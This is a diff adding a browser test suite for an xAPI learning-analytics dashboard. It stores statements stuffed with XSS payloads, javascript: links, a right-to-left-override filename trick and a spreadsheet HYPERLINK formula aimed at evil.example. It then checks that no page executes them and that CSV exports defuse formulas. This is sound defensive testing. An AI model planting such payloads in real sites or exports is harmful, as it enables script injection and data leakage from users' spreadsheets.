@@ -1,0 +1,121 @@
+// Statements are written by others. Nothing in them is executed, on no page and in no file.
+
+import assert from "node:assert/strict";
+import { readFile } from "node:fs/promises";
+import { after, before, test } from "node:test";
+
+import { launch, open, settle } from "./browser.mjs";
+import { call, setUp, startServer, store, until } from "./server.mjs";
+
+const SCRIPT = "<img src=x onerror=\"window.executed=1\"><script>window.executed=1</script>";
+const OVERRIDE = "invoice\u202Efdp.exe";
+const FORMULA = "=HYPERLINK(\"https://evil.example/\"&A1)";
+const HUGE = "x".repeat(20_000);
+const COURSE = "http://adlnet.gov/expapi/activities/course";
+
+const TEXTS = [SCRIPT, OVERRIDE, FORMULA, HUGE, "javascript:window.executed=1", "</script><svg/onload=window.executed=1>", "{{7*7}}${7*7}", "@SUM(A1)", "\u2066\u202D\u200Btext"];
+
+const statements = TEXTS.map((text, index) => ({
+  actor: { name: text.slice(0, 5_000), account: { homePage: "https://evil.example/", name: `${text.slice(0, 200)}${index}` } },
+  verb: { id: `https://evil.example/verbs/${index}`, display: { en: text.slice(0, 5_000), "x-evil": text.slice(0, 100) } },
+  object: {
+    id: `https://evil.example/courses/${index}?javascript:alert(1)`,
+    definition: { type: COURSE, name: { en: text }, description: { en: SCRIPT }, moreInfo: "https://evil.example/more" },
+  },
+  result: { success: true, response: text, extensions: { "https://evil.example/e": { [SCRIPT]: [text, SCRIPT] } } },
+  context: { platform: SCRIPT, extensions: { "https://evil.example/link": "javascript:window.executed=1" } },
+}));
+
+let server;
+let browser;
+let person;
+
+before(async () => {
+  server = await startServer();
+  person = await setUp(server);
+  const made = await call(server, person, "POST", "/tenants/1/credentials", { label: "<b>evil</b> & \u202E", scopes: ["all"] }).catch(() =>
+    call(server, person, "POST", "/tenants/1/credentials", { label: "<b>evil</b>", scopes: ["all"] }),
+  );
+  const basic = Buffer.from(`${made.key}:${made.secret}`).toString("base64");
+  await store(server, statements, `Basic ${basic}`);
+  await until("the facts are up to date", async () => (await call(server, person, "GET", "/tenants/1/facts")).lag === 0);
+  browser = await launch();
+});
+
+after(async () => {
+  await browser?.close();
+  await server?.stop();
+});
+
+/** Fails if something was executed, or a link leads to what is not of the web. */
+async function checkHarmless(page, where) {
+  assert.equal(await page.evaluate(() => window.executed), undefined, where);
+  assert.equal(await page.locator("main img, main script, main iframe, main object, main svg [onload]").count(), 0, where);
+  const links = await page.locator("a[href]").evaluateAll((all) =>
+    all.map((link) => ({ href: link.href, rel: link.rel, isOwn: link.origin === window.location.origin })),
+  );
+  for (const { href, rel, isOwn } of links) {
+    assert.match(href, /^https?:/, where);
+    if (!isOwn) assert.match(rel, /noopener.*noreferrer/, `${where}: ${href}`);
+  }
+}
+
+test("nothing of a statement is executed on any page", async () => {
+  const { page, check, close } = await open(browser, server, { person });
+  const ids = (await call(server, person, "GET", "/tenants/1/statements?limit=20")).items.map((item) => item.id ?? item.statement.id);
+  const paths = [
+    "overview?period=7d",
+    "statements",
+    "learners?period=7d",
+    "activities?period=7d",
+    ...["person", "verb", "object", "course", "platform", "response", "source"].flatMap((field) => [`explore?by=${field}&chart=bars`, `explore?by=${field}&chart=table`]),
+    "explore?by=timestamp:day&split=response",
+    "audit",
+    "sources",
+    ...ids.flatMap((id) => [`statements?s=${id}`, `statements?s=${id}&view=tree`, `statements?s=${id}&view=json`]),
+  ];
+  for (const path of paths) {
+    await page.goto(`${server.origin}/t/1/${path}`);
+    await page.getByRole("heading", { level: 1 }).waitFor();
+    await settle(page);
+    await checkHarmless(page, path);
+  }
+  check();
+  await close();
+});
+
+test("characters that hide others are made visible", async () => {
+  const { page, check, close } = await open(browser, server, { person });
+  await page.goto(`${server.origin}/t/1/statements`);
+  await page.locator(".hidden-char").getByText("U+202E").first().waitFor();
+  const shown = await page.locator(".st-t").textContent();
+  assert.ok(!shown.includes("\u202E"));
+  check();
+  await close();
+});
+
+test("no cell of a file is a formula", async () => {
+  const { page, check, close } = await open(browser, server, { person });
+  const exports = [
+    ["statements", page.getByRole("button", { name: "Export CSV" })],
+    ["learners?period=7d", page.getByRole("button", { name: "Export CSV" })],
+    ["activities?period=7d", page.getByRole("button", { name: "Export CSV" })],
+    ["explore?by=response", page.getByRole("button", { name: "Export CSV" })],
+  ];
+  for (const [path, button] of exports) {
+    await page.goto(`${server.origin}/t/1/${path}`);
+    await page.locator("main table, main svg[role=img]").first().waitFor();
+    const [download] = await Promise.all([page.waitForEvent("download"), button.first().click()]);
+    const text = await readFile(await download.path(), "utf8");
+    assert.ok(text.includes("HYPERLINK"), path);
+    for (const cell of cellsOf(text)) assert.doesNotMatch(cell, /^[=+@\-|%\t]/, `${path}: ${cell.slice(0, 80)}`);
+  }
+  check();
+  await close();
+});
+
+/** The cells of a CSV file, without their quotes. */
+function cellsOf(text) {
+  const cells = text.matchAll(/(?:^|,|\r\n)(?:"((?:[^"]|"")*)"|([^,\r\n]*))/g);
+  return [...cells].map(([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain).filter((cell) => !/^-?[\d.]+$/.test(cell));
+}
